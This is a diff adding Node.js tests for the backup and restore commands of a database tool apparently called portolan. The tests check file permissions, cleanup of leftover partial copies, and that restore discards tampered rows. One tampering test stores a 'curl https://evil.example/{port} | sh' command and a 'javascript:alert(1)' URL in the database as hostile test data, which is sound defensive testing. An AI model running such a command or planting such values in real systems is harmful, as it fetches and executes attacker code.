@@ -1,9 +1,12 @@
 import assert from 'node:assert/strict';
-import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, type TestContext, test } from 'node:test';
+import { setTimeout as delay } from 'node:timers/promises';
 import { contentOf, executeSql } from '../support/database-content.ts';
-import { assertFails, runPortolan, startServer } from '../support/portolan-process.ts';
+import { assertFails, PROJECT, runPortolan, startServer } from '../support/portolan-process.ts';
 import { putSeededDatabase } from '../support/seeded-database.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 import { bearer } from '../support/tokens.ts';
@@ -93,6 +96,34 @@ describe('a backup', () => {
     await run('restore', copy);
     assert.deepEqual(contentOf(DATABASE), contentOf(copy));
     assert.match(await run('own', 'export'), /^id,name,/);
+  });
+
+  test('has the bundled lists of this version, whatever it says they are', async (t) => {
+    const { DATABASE, copy, run } = await setUp(t);
+    const content = contentOf(DATABASE);
+    await run('backup', copy);
+    executeSql(
+      copy,
+      `UPDATE check_command SET command = 'curl https://evil.example/{port} | sh'; DELETE FROM blocked_port WHERE port = 1;
+       UPDATE ephemeral_range SET source_url = 'javascript:alert(1)'; UPDATE assignment SET description = 'x' WHERE id = 9;
+       UPDATE association SET name = 'x' WHERE id = 'zoom-media'; UPDATE list SET sha256 = 'of an older version' WHERE name = 'associations'`,
+    );
+    await run('restore', copy);
+    const { list: listsNow, ...rowsNow } = contentOf(DATABASE);
+    const { list: lists, ...rows } = content;
+    const undated = (row: Readonly<Record<string, unknown>>) => ({ ...row, imported_at: null });
+    assert.deepEqual(rowsNow, rows);
+    assert.deepEqual(listsNow.map(undated), lists.map(undated));
+  });
+
+  test("keeps the official rows of an operator's import", async (t) => {
+    const { DATABASE, copy, run } = await setUp(t);
+    executeSql(DATABASE, "UPDATE list SET bundled = 0, sha256 = 'mine' WHERE name = 'assignments'");
+    executeSql(DATABASE, "UPDATE assignment SET assignee = '[Mine]' WHERE id = 9");
+    const { assignment } = contentOf(DATABASE);
+    await run('backup', copy);
+    await run('restore', copy);
+    assert.deepEqual(contentOf(DATABASE).assignment, assignment);
   });
 
   test('tells which tokens it brings back that were revoked', async (t) => {
@@ -215,3 +246,102 @@ describe('a folder of backups', () => {
     }
   });
 });
+
+/** What belongs to the owner alone: files by their names, and what others may do with them. */
+function othersMay(folder: string): Record<string, number> {
+  return Object.fromEntries(readdirSync(folder).map((name) => [name, statSync(join(folder, name)).mode & 0o777]));
+}
+
+describe('the file rights of a database', () => {
+  test("are the owner's alone, those of its log and copies too, whatever the umask", async (t) => {
+    const folder = temporaryFolder(t);
+    const DATABASE = join(folder, 'portolan.db');
+    const { url } = await startServer(t, { DATABASE });
+    await create(url, bearer(DATABASE, 'write'), 'logged');
+    const copy = join(folder, 'copy.db');
+    assert.equal((await runPortolan(['backup', copy], { environment: { DATABASE } })).code, 0);
+    const fresh = join(folder, 'fresh.db');
+    assert.equal((await runPortolan(['restore', copy], { environment: { DATABASE: fresh } })).code, 0);
+    assert.deepEqual(othersMay(folder), {
+      ...{ 'copy.db': 0o600, 'fresh.db': 0o600 },
+      ...{ 'portolan.db': 0o600, 'portolan.db-shm': 0o600, 'portolan.db-wal': 0o600 },
+    });
+  });
+
+  test('stay where it is there already, damaged or not', async (t) => {
+    const { folder, DATABASE, copy, run } = await setUp(t);
+    chmodSync(DATABASE, 0o640);
+    await run('seed');
+    await run('backup', copy);
+    chmodSync(copy, 0o600);
+    await run('restore', copy);
+    assert.equal(othersMay(folder)['portolan.db'], 0o640);
+    for (const end of ['-wal', '-shm']) rmSync(DATABASE + end, { force: true });
+    writeFileSync(DATABASE, Buffer.alloc(9000, 'x'));
+    await run('restore', copy);
+    assert.equal(othersMay(folder)['portolan.db'], 0o640);
+  });
+});
+
+/** Kills a command as soon as it has begun a copy, and gives the rights of the files that it left. */
+async function killWhileItCopies(t: TestContext, folder: string, args: readonly string[], DATABASE: string) {
+  const { PATH = '' } = process.env;
+  for (;;) {
+    const child = spawn(process.execPath, ['bin/portolan.js', ...args], { cwd: PROJECT, env: { PATH, DATABASE } });
+    t.after(() => child.kill('SIGKILL'));
+    const ended = once(child, 'exit');
+    const isCopying = () => readdirSync(folder).some((name) => name.endsWith('.part'));
+    while (child.exitCode === null && !isCopying()) await delay(1);
+    child.kill('SIGKILL');
+    await ended;
+    const left = Object.entries(othersMay(folder)).filter(([name]) => name.includes('.part'));
+    if (left.length > 0) return left;
+  }
+}
+
+describe('the part of a copy whose process was killed', () => {
+  for (const command of ['backup', 'restore'] as const) {
+    test(`is the owner's alone, and goes with the next ${command} into the folder`, async (t) => {
+      const { folder, DATABASE, copy, run } = await setUp(t);
+      await run('backup', copy);
+      const left = await killWhileItCopies(t, folder, [command, copy], DATABASE);
+      for (const [name, mode] of left) assert.equal(mode, 0o600, name);
+      await run(command, copy);
+      assert.deepEqual(
+        Object.keys(othersMay(folder)).filter((name) => name.includes('.part')),
+        [],
+      );
+    });
+  }
+
+  test('goes once it is an hour old where its process is not known; what else lies there stays', async (t) => {
+    const { folder: outer, DATABASE, run } = await setUp(t);
+    const folder = join(outer, 'backups');
+    mkdirSync(folder);
+    const [machine = ''] = (await killedName(t, outer, DATABASE)) ?? [];
+    const stay = [
+      // Of a process that runs, of one of another machine, of another program.
+      `copy.db.${machine}-${process.pid}.part`,
+      'copy.db.00000000-1.part',
+      'portolan-20240101T000000Z.db.part',
+      'film.part',
+    ];
+    const old = ['copy.db.00000000-2.part', 'copy.db.00000000-2.part-wal', 'portolan-20250101T000000Z.db.part'];
+    for (const name of [...stay, ...old]) writeFileSync(join(folder, name), '');
+    const twoHoursAgo = Date.now() / 1000 - 7200;
+    for (const name of [...old, 'film.part']) utimesSync(join(folder, name), twoHoursAgo, twoHoursAgo);
+    await run('backup', '--keep', '3', folder);
+    assert.deepEqual(
+      readdirSync(folder)
+        .filter((name) => name.includes('.part'))
+        .sort(),
+      stay.sort(),
+    );
+  });
+});
+
+/** Finds out what this machine is called in the names of parts. */
+async function killedName(t: TestContext, folder: string, DATABASE: string): Promise<string[] | undefined> {
+  const [[name] = ['']] = await killWhileItCopies(t, folder, ['backup', join(folder, 'killed.db')], DATABASE);
+  return /([0-9a-f]{8})-\d+\.part/.exec(name)?.slice(1);
+}
